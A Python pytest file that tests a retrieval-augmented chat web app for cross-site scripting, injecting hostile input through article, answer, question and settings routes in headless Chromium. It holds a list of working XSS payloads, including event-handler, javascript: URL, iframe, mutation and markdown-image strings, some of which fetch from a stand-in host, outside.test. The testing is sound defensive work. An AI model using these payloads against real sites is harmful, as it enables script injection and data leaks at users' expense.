"""Nothing from an article, an answer, a question or a setting runs or fetches in the browser (issue 10, point 2).

Each hostile payload below would, if the page ever treated it as HTML, markdown or a URL,
either set `window.__xss_<n>`, open a dialog or request http://outside.test/<n>; `n` is the
number of the case (payload × route), so a failure names its case. Three checks:

- every message the chat renders, built from a payload in every field an article, the
  model or the user fills, parses to our own tags and attributes only, with the payload
  as text (fast);
- the page's content security policy refuses an outside image even when a component
  renders one (a few seconds in Chromium);
- the payloads reach a real page through every route (ROUTES: article headline, body and
  id, a supported and an unsupported answer sentence, the answer while it is written, the
  question, the Ollama model name) in headless Chromium, the model played by the fake
  Ollama server; every request that leaves 127.0.0.1 is recorded and aborted, and the
  live page is searched for elements and attributes a payload made (heavy: about two
  minutes; `RAG_HEAVY=all pytest tests/test_ui_security.py -s` gives the figure).
"""
from __future__ import annotations

import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from fake_ollama import FakeOllamaServer
from reliability import record
from rag.types import Answer, Citation, Passage, Sentence
from ui.browser import CHROMIUM, VIEWPORT, ask, chromium, clear_chat, open_chat
from ui.render import answer_html, draft_html, error_html, question_html, stopped_html

from conftest import make_pipeline
from test_ui_browser import TABLE_SHOWS, running, screenshot

OUTSIDE = "outside.test"
# Each payload, with {n} for its case number. The flags are set as bare globals (`__xss_1=1`,
# not `window.__xss_1`): the sentence splitter would cut a sentence at "window." and show the
# payload in two passages. The markdown image is cut at its "!" all the same.
PAYLOADS = {
    "script": "<script>__xss_{n}=1</script>",
    "img onerror": '<img src=x onerror="__xss_{n}=1">',
    "img alert": "<img src=x onerror=alert({n})>",
    "img outside": '<img src="http://outside.test/{n}.png">',
    "svg onload": '<svg onload="__xss_{n}=1">',
    "svg script": "<svg><script>__xss_{n}=1</script></svg>",
    "svg image": '<svg><image href="http://outside.test/{n}.svg"></image></svg>',
    "onmouseover": '<div onmouseover="__xss_{n}=1" style="position:fixed;inset:0">hover</div>',
    "autofocus onfocus": '<input autofocus onfocus="__xss_{n}=1">',
    "details ontoggle": '<details open ontoggle="__xss_{n}=1">',
    "video onerror": '<video><source onerror="__xss_{n}=1"></video>',
    "a javascript:": '<a href="javascript:void(__xss_{n}=1)">click</a>',
    "a data:": '<a href="data:text/html,<script>alert({n})</script>">open</a>',
    "iframe javascript:": "<iframe src=\"javascript:void(top['__xss_{n}']=1)\"></iframe>",
    "iframe data:": '<iframe src="data:text/html,<img src=http://outside.test/{n}>"></iframe>',
    "iframe srcdoc": "<iframe srcdoc=\"<script>top['__xss_{n}']=1</script>\"></iframe>",
    "object": '<object data="http://outside.test/{n}.swf"></object>',
    "embed": '<embed src="javascript:void(__xss_{n}=1)">',
    "form action": '<form action="javascript:void(__xss_{n}=1)"><button autofocus>send</button></form>',
    "base href": '<base href="http://outside.test/{n}/">',
    "style @import": '<style>@import url("http://outside.test/{n}.css")</style>',
    "style background": '<b style="background:url(http://outside.test/{n}.png)">x</b>',
    "link stylesheet": '<link rel=stylesheet href="http://outside.test/{n}.css">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://outside.test/{n}">',
    "markdown image": "![chat](http://outside.test/{n}?q=the+chat)",
    "markdown link": "[click](javascript:void(__xss_{n}=1))",
    "autolink": "<http://outside.test/{n}>",
    "named entities": "&lt;img src=x onerror=__xss_{n}=1&gt;",
    "numeric entities": "&#60;script&#62;__xss_{n}=1&#60;/script&#62;",
    "attribute breakout": '"><img src=x onerror=__xss_{n}=1>',
    "quote breakout": "'><svg onload=__xss_{n}=1>",
    "raw text breakout": "</title></textarea></style><img src=x onerror=__xss_{n}=1>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=__xss_{n}=1>">',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=__xss_{n}=1>",
}
ROUTES = (
    "article headline",
    "article body",
    "article id",  # the file name, for payloads a file name can hold (no "/")
    "supported answer",  # the model copies a passage that holds the payload
    "unsupported answer",  # the model writes the payload itself, citing a passage that lacks it
    "answer being written",  # the model's words as they stream in, unchecked, kept by Stop
    "question",
    "model name",  # typed into Settings
)
# The page shows these as they are, so every payload must show there. Through retrieval and the
# checker, the pipeline may keep a payload from the page (a link no passage holds, say).
ECHOED_ROUTES = {"article headline", "article id", "answer being written", "question", "model name"}
MARKS = ("__xss_", OUTSIDE, "alert(")  # in an attribute or a script, a payload that became live

# What ui/render.py writes: anything else in a chat message came from a payload.
OUR_TAGS = {"div", "p", "span", "sup", "a", "details", "summary", "ul", "ol", "li", "blockquote", "mark", "bdi"}
OUR_ATTRIBUTES = {"class", "dir", "lang", "title", "id", "href", "aria-label", "open"}  # open: a details unfolded
OUR_HREF = re.compile(r"#src-[0-9a-z]+-\d+")


@dataclass(frozen=True)
class Case:
    n: int
    payload: str
    route: str

    @property
    def text(self) -> str:
        return PAYLOADS[self.payload].format(n=self.n)


def all_cases() -> dict[int, Case]:
    routes = [(payload, route) for payload in PAYLOADS for route in ROUTES]
    routes = [(p, r) for p, r in routes if r != "article id" or "/" not in PAYLOADS[p]]
    return {n: Case(n, payload, route) for n, (payload, route) in enumerate(routes, start=1)}


# --- the fast check: the HTML of every message, parsed ---------------------------------


class _Parsed(HTMLParser):
    """The elements, attributes and text of an HTML fragment, as a browser would parse them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []  # (tag, name, value)
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text.append(data)


def live_parts(html: str) -> list[str]:
    """Every element and attribute of `html` that ui/render.py does not write itself."""
    parsed = _Parsed(html)
    found = [f"<{tag}>" for tag in parsed.tags if tag not in OUR_TAGS]
    for tag, name, value in parsed.attributes:
        if name not in OUR_ATTRIBUTES:
            found.append(f"<{tag} {name}={value!r}>")
        elif name == "href" and not OUR_HREF.fullmatch(value):
            found.append(f"<{tag} href={value!r}>")
    return found


def shown_text(html: str) -> str:
    return "".join(_Parsed(html).text)


def tooltips(html: str) -> str:
    return "\n".join(value for _, name, value in _Parsed(html).attributes if name == "title")


def messages_holding(text: str) -> dict[str, str]:
    """Every kind of chat message, with `text` in each field an article, the model or the user fills."""
    passage = Passage(1, article_id=text, headline=text, text=f"The log notes {text} today.", start=0, end=40, chunk_id="c1")
    contexts = {1: (text, text)}
    sentences = [
        Sentence(text, [Citation(1, True, reason=text)]),
        Sentence(text, [Citation(1, False, reason=text)]),
        Sentence(text, [Citation(9, False, reason=text)]),  # cites a passage the model was not shown
        Sentence(text),  # cites nothing
    ]
    answered = Answer(
        question=text, language="en", text=text, sentences=sentences, passages=[passage],
        withheld=[Sentence(text, [Citation(1, True)], withheld=text)], model=text,
        timings={"first_token_s": 1.0, "total_s": 2.0},
    )
    declined = Answer(question=text, language="ar", text=text, sentences=[], passages=[passage], abstained=True, model=text)
    return {
        "question": question_html(text),
        "draft": draft_html(text, "en", [passage]),
        "stopped": stopped_html(text, "ar"),
        "error": error_html(text),
        "answer": answer_html(answered, "a1b2c3d4", contexts),
        "declined": answer_html(declined, "e5f6a7b8", contexts),
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_any_field_of_any_message_is_shown_as_text(payload):
    text = PAYLOADS[payload].format(n=7)
    for kind, html in messages_holding(text).items():
        assert live_parts(html) == [], f"{payload} made live HTML in the {kind} message"
        assert text in shown_text(html), f"{payload} is not shown as text in the {kind} message"
    assert text in tooltips(messages_holding(text)["draft"]), "the passage being read is in its tooltip, as text"


def test_the_checker_finds_live_html_and_foreign_links():
    """live_parts is what the test above relies on: it must see what a payload would make."""
    assert live_parts('<p class="x">a <a class="cite" href="#src-a1b2c3d4-2">2</a></p>') == []
    assert live_parts('<p><img src=x onerror="__xss_1=1"></p>') == ["<img>", "<img src='x'>", "<img onerror='__xss_1=1'>"]
    assert live_parts('<a href="javascript:void(0)">x</a>') == ["<a href='javascript:void(0)'>"]
    assert live_parts('<span style="background:url(http://outside.test/1)">x</span>') != []


# --- the browser: every route into a real page -------------------------------------------

LOCAL_HOSTS = {"127.0.0.1", "localhost"}
INERT_ATTRIBUTES = ("title", "aria-label")  # text a browser shows, never fetches or runs
UI_TIMEOUT_MS = 30_000  # a click or a settings change takes a second even on a busy machine; a blocked page never ends
ARTICLE_QUESTION = "What is in the harbour log and the crane report?"
PLAIN_ARTICLE = "تقرير الميناء\nThe harbour log of pier 1 recorded a quiet Monday.\n"
PLAIN_QUESTION = "What did the harbour log of pier 1 record?"
NO_ANSWER = json.dumps({"found": False, "sentences": []})

# Run on every change to the page: the draft, with the passages being read and their tooltips,
# is replaced by the checked answer within a second, so it is looked at while it is there.
WATCH_PAGE = """({ourTags, ourAttributes, inertAttributes, marks}) => {
  const seen = window.__seen = {live: new Set(), readingHeadlines: new Set(), tooltips: new Set(), drafts: new Set()};
  const note = (where, element, what) =>
    seen.live.add(`${where} <${element.tagName.toLowerCase()}> ${what}: ${element.outerHTML.slice(0, 200)}`);
  window.__scan = () => {
    for (const element of document.querySelectorAll('#chat .msg, #chat .msg *')) {
      const tag = element.tagName.toLowerCase();
      if (!ourTags.includes(tag)) note('#chat', element, 'not our tag');
      for (const attribute of element.attributes) {
        if (!ourAttributes.includes(attribute.name)) note('#chat', element, `attribute ${attribute.name}`);
        else if (attribute.name === 'href' && !/^#src-[0-9a-z]+-\\d+$/.test(attribute.value)) note('#chat', element, 'href');
      }
    }
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        if (!inertAttributes.includes(attribute.name) && marks.some((mark) => attribute.value.includes(mark))) {
          note('page', element, `attribute ${attribute.name}`);
        }
      }
      if (['SCRIPT', 'STYLE'].includes(element.tagName) && marks.some((mark) => element.textContent.includes(mark))) {
        note('page', element, 'content');
      }
    }
    for (const item of document.querySelectorAll('#chat .reading li')) {
      seen.tooltips.add(item.title);
      seen.readingHeadlines.add(item.querySelector('.headline').textContent);
    }
    for (const draft of document.querySelectorAll('#chat .msg.draft > p')) seen.drafts.add(draft.textContent);
  };
  new MutationObserver(window.__scan).observe(document.body, {childList: true, subtree: true, attributes: true});
}"""
SEEN = "(kind) => [...window.__seen[kind]]"
# The visible text of each place in the chat a payload can reach.
SHOWN = """() => {
  const texts = (selector) => [...document.querySelectorAll(selector)].map((element) => element.textContent);
  return {
    supported: texts('#chat .sentence.supported'),
    unsupported: texts('#chat .sentence.unsupported'),
    sourceHeadlines: texts('#chat .source .headline'),
    sourcePassages: texts('#chat .source .passage'),
    sourceIds: texts('#chat .source .where bdi'),
  };
}"""
# The Articles table draws only the rows in view: scroll it through and keep every row's text.
TABLE_TEXT = """async () => {
  const table = document.querySelector('#articles');
  const scroller = [...table.querySelectorAll('*')].find((element) => element.scrollHeight > element.clientHeight + 10
    && ['auto', 'scroll'].includes(getComputedStyle(element).overflowY));
  const seen = [table.innerText];
  for (let top = 0; scroller && top < scroller.scrollHeight; top += scroller.clientHeight / 2) {
    scroller.scrollTop = top;
    await new Promise((done) => setTimeout(done, 100));
    seen.push(table.innerText);
  }
  return seen.join('\\n');
}"""
DRAFT_SHOWS = "(text) => [...document.querySelectorAll('#chat .msg.draft')].some((draft) => draft.textContent.includes(text))"
STATUS_SHOWS = "(text) => document.querySelector('#status').textContent.includes(text)"
SETTINGS_SAY = "(text) => document.querySelector('#settings-message textarea').value.includes(text)"
FLAGS = "() => Object.keys(window).filter((name) => name.startsWith('__xss_'))"


NO_CHROMIUM = f"the browser checks need Debian's Chromium at {CHROMIUM} (`make browser`)"


@pytest.mark.skipif(not CHROMIUM.exists(), reason=NO_CHROMIUM)
def test_the_page_policy_refuses_an_outside_image_that_a_component_renders():
    """The second wall: were a component ever to render a payload as markdown or HTML, its image
    would still not load, because the page's content security policy (ui/page.py) refuses every
    host but this one. Markdown here on purpose; the app itself shows no text as markdown."""
    import gradio as gr

    from ui.app import launch

    with gr.Blocks() as demo:
        rendered = gr.Markdown(elem_id="rendered")
        gr.Button("show").click(
            lambda: f"![chat](http://{OUTSIDE}/1?q=the+chat) <img src='http://{OUTSIDE}/2.png'>", None, rendered
        )
    _, url, _ = launch(demo, port=None, prevent_thread_lock=True, quiet=True)
    try:
        with chromium() as browser:
            context = browser.new_context(viewport=VIEWPORT)
            page = context.new_page()
            watched = watch(context, page, (url,))
            page.goto(url)
            with page.expect_console_message(lambda message: f"{OUTSIDE}/2.png" in message.text):
                page.get_by_role("button", name="show").click()
            assert page.locator("#rendered img").count() == 2, "the markdown did render both images"
            assert watched.outside == [], "no request left this machine"
            assert [text for text in watched.blocked if f"{OUTSIDE}/1?q=the+chat" in text]
            assert [text for text in watched.blocked if f"{OUTSIDE}/2.png" in text]
            context.close()
    finally:
        demo.close()


@pytest.mark.skipif(not CHROMIUM.exists(), reason=NO_CHROMIUM)
@pytest.mark.heavy(covers=["ui/*.py", "rag/citations.py", "rag/draft.py"])
def test_no_payload_runs_or_fetches_anything_in_the_browser(tmp_path):
    cases = all_cases()
    shown: dict[int, list[str]] = {}  # case number -> the places on the page that showed its payload as text
    failures: list[dict] = []
    folder = tmp_path / "articles"
    folder.mkdir()
    payload_articles(folder, cases)
    with FakeOllamaServer() as fake, chromium() as browser:
        # Every payload article's passages go to the model at once: top-k and the budget cover them all.
        hostile = serving_pipeline(fake, tmp_path / "hostile", top_k=2 * len(PAYLOADS), context_tokens=50_000)
        report = hostile.ingest([folder], progress=False)
        assert report.failed == [] and len(report.added) == len(PAYLOADS)
        article_answer = scripted_answer(cases, passages_for(hostile, fake, ARTICLE_QUESTION))
        plain = serving_pipeline(fake, tmp_path / "plain", top_k=2)
        (tmp_path / "plain.txt").write_text(PLAIN_ARTICLE, encoding="utf-8")
        plain.ingest([tmp_path / "plain.txt"], progress=False)

        with running(hostile) as hostile_url, running(plain) as plain_url:
            context = browser.new_context(viewport=VIEWPORT)
            page = context.new_page()
            watched = watch(context, page, (hostile_url, plain_url))

            open_watched(page, hostile_url)
            shown |= articles_and_answers(page, fake, cases, article_answer)
            failures += watched.failures(page, cases)

            open_watched(page, plain_url)
            shown |= questions(page, fake, cases)
            shown |= answer_being_written(page, fake, cases)
            shown |= model_names(page, cases, failures)
            failures += watched.failures(page, cases)
            context.close()

    failures += [
        {"what": "not shown as text", "payload": cases[n].payload, "route": cases[n].route}
        for n, places in shown.items()
        if not places and cases[n].route in ECHOED_ROUTES
    ]
    delivered = [n for n, places in shown.items() if places]
    record(
        "browser-payloads", cases=len(delivered), failures=failures,
        payloads=len(PAYLOADS), routes=len(ROUTES),
        scripts_run=sum(1 for f in failures if f["what"] in ("script ran", "dialog")),
        outside_requests=sum(1 for f in failures if f["what"] in ("outside request", "blocked by the policy")),
        delivered={route: sum(1 for n in delivered if cases[n].route == route) for route in ROUTES},
        kept_from_the_page=[f"{cases[n].payload} ({cases[n].route})" for n, places in shown.items() if not places],
        shown_in={f"{cases[n].payload} ({cases[n].route})": places for n, places in shown.items()},
    )
    assert failures == []
    assert len({cases[n].payload for n in delivered}) >= 15


def articles_and_answers(page, fake, cases: dict[int, Case], answer: str) -> dict[int, list[str]]:
    """Headline and id in the Articles tab; one answer reading every payload article, with the
    model's sentences supported and not, and the sources."""
    page.get_by_role("tab", name="Articles").click()
    page.wait_for_function(TABLE_SHOWS, arg="تقرير الميناء ")
    screenshot(page, "security-articles.png")
    table = page.evaluate(TABLE_TEXT)
    page.locator("#remove-choice input").click()
    choices = page.get_by_role("listbox").inner_text()
    page.keyboard.press("Escape")

    page.get_by_role("tab", name="Chat").click()
    fake.reply_with(answer)
    ask(page, ARTICLE_QUESTION)
    page.eval_on_selector_all("#chat details", "all => all.forEach(d => d.open = true)")
    hover_every_message(page)
    screenshot(page, "security-answer.png")
    chat = page.evaluate(SHOWN)
    return {
        **where_shown(cases, "article headline", {
            "articles table": [table],
            "passages being read": page.evaluate(SEEN, "readingHeadlines"),
            "sources": chat["sourceHeadlines"],
        }),
        **where_shown(cases, "article body", {
            "passage tooltips": page.evaluate(SEEN, "tooltips"), "sources": chat["sourcePassages"],
        }),
        **where_shown(cases, "article id", {
            "articles table": [table], "article to remove": [choices], "sources": chat["sourceIds"],
        }),
        **where_shown(cases, "supported answer", {"supported sentences": chat["supported"]}),
        **where_shown(cases, "unsupported answer", {"unsupported sentences": chat["unsupported"]}),
    }


def questions(page, fake, cases: dict[int, Case]) -> dict[int, list[str]]:
    """Each payload typed as a question."""
    asked = []
    for case in cases.values():
        if case.route == "question":
            fake.reply_with(NO_ANSWER)
            ask(page, case.text)
            asked.append(page.locator("#chat .msg.question").last.text_content())
    hover_every_message(page)
    clear_chat(page)
    return where_shown(cases, "question", {"question": asked})


def answer_being_written(page, fake, cases: dict[int, Case]) -> dict[int, list[str]]:
    """The model writes every payload and then stalls: the unchecked draft shows, and Stop keeps it."""
    writing = [case for case in cases.values() if case.route == "answer being written"]
    reply = json.dumps({"found": True, "sentences": [{"text": case.text, "passages": [1]} for case in writing]})
    fake.reply_with(reply)
    fake.fail_next_chat("hang", after_chunks=len(reply.split()))  # every word, then nothing
    page.fill("#question textarea", PLAIN_QUESTION)
    page.press("#question textarea", "Enter")
    page.wait_for_function(DRAFT_SHOWS, arg=writing[-1].text, timeout=UI_TIMEOUT_MS)
    page.click("#stop")
    stopped = page.locator("#chat .msg.answer.stopped")
    stopped.wait_for(timeout=UI_TIMEOUT_MS)
    hover_every_message(page)
    screenshot(page, "security-stopped-draft.png")
    places = {"draft": page.evaluate(SEEN, "drafts"), "stopped answer": [stopped.text_content()]}
    clear_chat(page)
    return where_shown(cases, "answer being written", places)


def model_names(page, cases: dict[int, Case], failures: list[dict]) -> dict[int, list[str]]:
    """Each payload as the Ollama model name in Settings: echoed by the status line and the settings message."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    page.get_by_text("Settings (shared by everyone using this server)").click()
    # Once with the settings as they are: the panel has drawn its fields and answers (typing
    # into it the moment it opened has been seen to be lost on a busy machine).
    page.get_by_role("button", name="Apply").click(timeout=UI_TIMEOUT_MS)
    page.wait_for_function(SETTINGS_SAY, arg="chunks per question", timeout=UI_TIMEOUT_MS)
    status, message = [], []
    for case in cases.values():
        if case.route != "model name":
            continue
        try:
            page.get_by_label("Ollama model").fill(case.text, timeout=UI_TIMEOUT_MS)
            page.get_by_role("button", name="Apply").click(timeout=UI_TIMEOUT_MS)
            page.wait_for_function(STATUS_SHOWS, arg=f"ollama {case.text} @", timeout=UI_TIMEOUT_MS)
        except PlaywrightTimeout as exc:  # a payload laid over the page blocks every later click
            failures.append({"what": "page blocked", "payload": case.payload, "route": case.route,
                             "error": str(exc).splitlines()[0]})
            break
        status.append(page.text_content("#status"))
        message.append(page.locator("#settings-message").evaluate(  # a text box; as markdown it would be live
            "(box) => box.querySelector('textarea')?.value ?? box.textContent"
        ))
    screenshot(page, "security-settings.png")
    return where_shown(cases, "model name", {"status line": status, "settings message": message})


def where_shown(cases: dict[int, Case], route: str, places: dict[str, list[str]]) -> dict[int, list[str]]:
    """For each case of `route`, the places whose visible text holds its payload whole."""
    return {
        n: [where for where, texts in places.items() if any(case.text in text for text in texts)]
        for n, case in cases.items()
        if case.route == route
    }


@dataclass
class PageWatch:
    """What the page did that no payload may make it do."""

    outside: list[str]  # requests to a host other than this machine (aborted)
    blocked: list[str]  # loads the page's content security policy refused (ui/page.py), before any request
    dialogs: list[str]
    frames: list[str]  # frames a payload opened, popups and navigations away from the app

    def failures(self, page, cases: dict[int, Case]) -> list[dict]:
        """Everything seen since the last call, with the case it came from where that is known."""
        page.evaluate("() => window.__scan()")
        found = [{"what": "script ran", "flag": flag, **_case_of(flag, cases)} for flag in page.evaluate(FLAGS)]
        found += [{"what": "outside request", "url": url, **_case_of(url, cases)} for url in self.outside]
        found += [{"what": "blocked by the policy", "message": text, **_case_of(text, cases)} for text in self.blocked]
        found += [{"what": "dialog", "message": message} for message in self.dialogs]
        found += [{"what": "frame or navigation", "url": url} for url in self.frames]
        found += [{"what": "live element", "where": line} for line in page.evaluate(SEEN, "live")]
        self.outside, self.blocked, self.dialogs, self.frames = [], [], [], []
        return found


def _case_of(found: str, cases: dict[int, Case]) -> dict:
    number = re.search(r"(?:__xss_|outside\.test/)(\d+)", found)
    case = cases.get(int(number.group(1))) if number else None
    return {"payload": case.payload, "route": case.route} if case else {}


def watch(context, page, app_urls: tuple[str, ...]) -> PageWatch:
    """Abort and record every request that leaves this machine; record what the page's policy
    refused, dialogs, frames and navigations."""
    watched = PageWatch([], [], [], [])

    def screen(route):
        if urlsplit(route.request.url).hostname in LOCAL_HOSTS:
            route.continue_()
        else:
            watched.outside.append(route.request.url)
            route.abort()

    context.route("**/*", screen)
    page.on("websocket", lambda socket: watched.outside.append(socket.url))
    page.on("console", lambda message: "Content Security Policy" in message.text and watched.blocked.append(message.text))
    page.on("dialog", lambda dialog: (watched.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("frameattached", lambda frame: watched.frames.append(f"frame {frame.url}"))
    page.on("popup", lambda popup: watched.frames.append(f"popup {popup.url}"))
    page.on(
        "framenavigated",
        lambda frame: frame == page.main_frame and not frame.url.startswith(app_urls) and watched.frames.append(frame.url),
    )
    return watched


def open_watched(page, url: str) -> None:
    open_chat(page, url)
    page.evaluate(
        WATCH_PAGE,
        {"ourTags": sorted(OUR_TAGS), "ourAttributes": sorted(OUR_ATTRIBUTES),
         "inertAttributes": list(INERT_ATTRIBUTES), "marks": list(MARKS)},
    )


def hover_every_message(page) -> None:
    """An onmouseover handler, had one survived, would fire now."""
    for message in page.locator("#chat .msg").all():
        message.hover()


def serving_pipeline(fake: FakeOllamaServer, home, **overrides):
    """A pipeline on the fake Ollama server (chat model and embedder), as `rag serve` would run it;
    the model may write long replies, and one session may ask every question in a minute."""
    return make_pipeline(
        home, backend="ollama", embedder="ollama", ollama_host=fake.host,
        max_answer_tokens=20_000, max_answers_per_minute=1000, **overrides,
    )


def payload_articles(folder, cases: dict[int, Case]) -> None:
    """One article per payload: in its headline, in a sentence the answer cites and in one it copies.

    The payload leads each sentence, so a sentence split at the markdown image's "!" still keeps
    the rest with the words that bring it into the passages."""
    by_route = {(case.payload, case.route): case for case in cases.values()}
    for i, payload in enumerate(PAYLOADS, start=1):
        headline, body, copied = (by_route[payload, route].text for route in ("article headline", "article body", "supported answer"))
        named = by_route.get((payload, "article id"))
        (folder / f"{named.text if named else f'harbour-{i}'}.txt").write_text(
            f"تقرير الميناء {i} {headline}\n{body} in the harbour log of pier {i}.\n{copied} in the crane report of pier {i}.\n",
            encoding="utf-8",
        )


def passages_for(pipeline, fake: FakeOllamaServer, question: str) -> list[Passage]:
    """The passages the pipeline shows the model for `question`, learnt by asking it once (the
    same index, question and model give the same passages)."""
    fake.reply_with(NO_ANSWER)
    return pipeline.ask(question).passages


def scripted_answer(cases: dict[int, Case], passages: list[Passage]) -> str:
    """The model's reply: for each payload article, a clean sentence citing its harbour-log passage,
    its crane-report sentence copied word for word, and the payload alone citing that passage
    (which lacks the payload's number, so the checker does not support it).

    An article the pipeline kept from the model (an instruction-like link, say) gets only the last,
    citing nothing."""
    by_route = {(case.payload, case.route): case for case in cases.values()}
    sentences = []
    for i, payload in enumerate(PAYLOADS, start=1):
        harbour = next((p for p in passages if p.text.endswith(f"in the harbour log of pier {i}.")), None)
        crane = next((p for p in passages if p.text.endswith(f"in the crane report of pier {i}.")), None)
        if harbour:
            sentences.append({"text": f"The harbour log of pier {i} has an entry.", "passages": [harbour.number]})
        if crane:
            copied = by_route[payload, "supported answer"].text
            sentences.append({"text": f"{copied} in the crane report of pier {i}.", "passages": [crane.number]})
        cited = [p.number for p in (crane or harbour,) if p]
        sentences.append({"text": by_route[payload, "unsupported answer"].text, "passages": cited})
    return json.dumps({"found": True, "sentences": sentences}, ensure_ascii=False)
